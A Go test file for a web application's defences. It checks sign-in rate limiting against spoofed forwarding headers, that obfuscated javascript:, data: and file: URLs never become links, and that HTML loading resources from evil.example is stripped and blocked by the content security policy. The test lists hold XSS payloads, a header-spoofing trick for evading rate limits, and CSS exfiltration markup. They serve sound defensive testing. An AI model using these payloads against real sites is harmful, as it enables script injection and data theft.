package web

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestD20ForwardedFor guesses passwords under ever new addresses that no proxy
// has seen: the guesses count for where they come from.
func TestD20ForwardedFor(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.browser(t)
	form := b.get("/auth/sign-in").form("password", "a guess")
	var last *page
	for i := range 60 {
		form.Set("name", "person"+string(rune('a'+i%26))+string(rune('a'+i/26)))
		r, err := http.NewRequest(http.MethodPost, w.URL+"/auth/sign-in", strings.NewReader(form.Encode()))
		if err != nil {
			t.Fatal(err)
		}
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Origin", w.URL)
		for _, name := range []string{"X-Forwarded-For", "X-Real-IP", "Forwarded", "CF-Connecting-IP", "True-Client-IP", "X-Client-IP"} {
			r.Header.Set(name, "203.0.113."+string(rune('0'+i%10)))
		}
		last = b.do(r)
	}
	last.wants(t, http.StatusTooManyRequests, "too many tries")
}

// TestD13Addresses shows addresses that run scripts, wherever a resource may have
// them: none becomes a link.
func TestD13Addresses(t *testing.T) {
	t.Parallel()
	for _, address := range []string{
		"javascript:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "JaVaScRiPt:alert(1)", "\u0001javascript:alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
		"vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:https://x", "file:///etc/passwd", "view-source:javascript:alert(1)", "//evil.example/x", "https:evil.example", "\\\\evil.example\\x", "javascript://%0aalert(1)", "feed:javascript:alert(1)",
		"jar:https://evil.example!/", "filesystem:https://x/", "livescript:x", "mocha:x",
	} {
		for _, resource := range [][]byte{resourceWith(t, address), resourceWith(t, `<a href="`+address+`">a</a>`), bundleWith(t, address)} {
			got := Page{Title: "x", Status: 200, Base: testBase, JSON: resource}.HTML()
			inspect(t, got)
			p := &page{nil, string(got)}
			p.each("a", func(a map[string]string) {
				to, err := url.Parse(a["href"])
				if err != nil || to.Scheme != "" && to.Scheme != "http" && to.Scheme != "https" || strings.Contains(to.Host, "evil") {
					t.Errorf("%q is a link to %q", address, a["href"])
				}
			})
		}
	}
}

// TestD14Pixels shows narratives that would load something: nothing is loaded, and
// the policy of the page forbids it, too.
func TestD14Pixels(t *testing.T) {
	t.Parallel()
	for _, narrative := range []string{
		`<img src="https://evil.example/pixel.gif" alt="x"/>`, `<img srcset="https://evil.example/a 1x"/>`, `<p style="background:url(https://evil.example/a)">x</p>`, `<table background="https://evil.example/a"><tr><td>x</td></tr></table>`,
		`<style>@import "https://evil.example/a.css"; input[value^=a]{background:url(https://evil.example/a)}</style>`, `<link rel="stylesheet" href="https://evil.example/a.css"/>`, `<video poster="https://evil.example/a"></video>`, `<audio src="https://evil.example/a"/>`, `<object data="https://evil.example/a"/>`,
		`<svg><image href="https://evil.example/a"/></svg>`, `<a ping="https://evil.example/a" href="#x">x</a>`, `<input type="image" src="https://evil.example/a"/>`,
	} {
		got := Page{Title: "x", Status: 200, Base: testBase, JSON: resourceWith(t, narrative)}.HTML()
		inspect(t, got)
		p := &page{nil, string(got)}
		p.each("*", func(a map[string]string) {
			for name, value := range a {
				if name != "<" && strings.Contains(value, "evil.example") {
					t.Errorf("%s: %s has %s=%q", narrative, a["<"], name, value)
				}
			}
		})
	}
	h := http.Header{}
	Headers(h)
	if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "img-src http") || strings.Contains(csp, "*") {
		t.Errorf("the policy is %q", csp)
	}
}
